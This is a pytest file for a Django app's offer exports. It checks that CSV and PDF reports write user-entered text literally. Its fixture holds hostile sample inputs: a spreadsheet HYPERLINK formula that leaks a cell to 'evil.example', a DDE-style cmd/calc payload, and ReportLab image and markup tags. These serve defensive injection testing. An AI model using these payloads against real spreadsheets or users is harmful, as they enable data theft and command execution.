"""The offer exports write what people typed as text: no spreadsheet formula, no PDF markup."""

import csv
import io

import pytest
from django.urls import reverse
from pypdf import PdfReader

from erasmi.offers.models import Offer

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def tampered(offers):
    """The two demo offers that overlap, with texts that a spreadsheet would run or ReportLab would read."""
    first = Offer.objects.get(titles__de="Migrationsberatung am Abend")
    first.titles = {"de": FORMULA, "en": FORMULA}
    first.contact = "@SUM(1+1)*cmd|' /C calc'!A0"
    first.cost = "-2+3"
    first.save()
    first.organisation.name = "+49 361 <i>Provider"
    first.organisation.save()
    second = Offer.objects.get(titles__de="Migrationsberatung für Erwachsene")
    second.titles = {"de": '<img src="/etc/logo.png"/> & <b>Beratung', "en": '<img src="/etc/logo.png"/> & <b>Beratung'}
    second.save()
    return first


def test_offers_csv_writes_formulas_as_text(client, tampered):
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("offers:export", args=["csv"])).content.decode())))
    row = next(r for r in rows if r["Number"] == str(tampered.pk))
    assert row["Title"] == "'" + FORMULA
    assert row["Organisation"] == "'+49 361 <i>Provider"
    assert row["Contact"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Cost"] == "'-2+3"
    assert row["Latitude"] == str(tampered.latitude)  # numbers stay numbers


def test_coordination_report_csv_writes_formulas_as_text(client, member, tampered):
    client.force_login(member)
    report = client.get(reverse("offers:report", args=["erfurt"]), {"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(report.content.decode("utf-8-sig"))))
    mine = next(r for r in rows if r["Section"] == "Overlaps" and FORMULA in r["Area or offer"])
    assert mine["Area or offer"] == "'" + FORMULA
    assert mine["Organisation"] == "'+49 361 <i>Provider"
    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())


def test_coordination_report_pdf_prints_markup_as_text(client, member, tampered):
    client.force_login(member)
    tampered.network.name = "Netz <i>Erfurt & Umgebung"
    tampered.network.save()
    response = client.get(reverse("offers:report", args=["erfurt"]), {"format": "pdf"})
    assert response.status_code == 200
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    assert "Coordination report: Netz <i>Erfurt & Umgebung" in text
    assert '<img src="/etc/logo.png"/> & <b>Beratung' in text
    assert "+49 361 <i>Provider" in text
    assert all("/XObject" not in page.get("/Resources", {}) for page in reader.pages)


def test_offers_csv_is_headed_in_the_readers_language_and_imports_again(client, offers, tmp_path):
    from django.core.management import call_command

    exported = client.get("/de/offers/export.csv", {"q": "Sprachcafé"}).content.decode()
    rows = list(csv.DictReader(io.StringIO(exported)))
    assert [row["Titel"] for row in rows] == ["Frauen-Sprachcafé"]
    cafe = Offer.objects.get(titles__de="Frauen-Sprachcafé")
    assert rows[0]["Kategorie"] == cafe.category.names["de"] and rows[0]["online"] in ("ja", "nein")
    assert cafe.category.slug not in exported and "title" not in exported.splitlines()[0]
    Offer.objects.filter(titles__de="Frauen-Sprachcafé").delete()
    path = tmp_path / "offers.csv"
    path.write_text(exported)
    call_command("import_offers", str(path), network="erfurt", language="de", verbosity=0)
    again = Offer.objects.get(titles__de="Frauen-Sprachcafé")
    assert again.category == cafe.category and again.target_groups.exists()
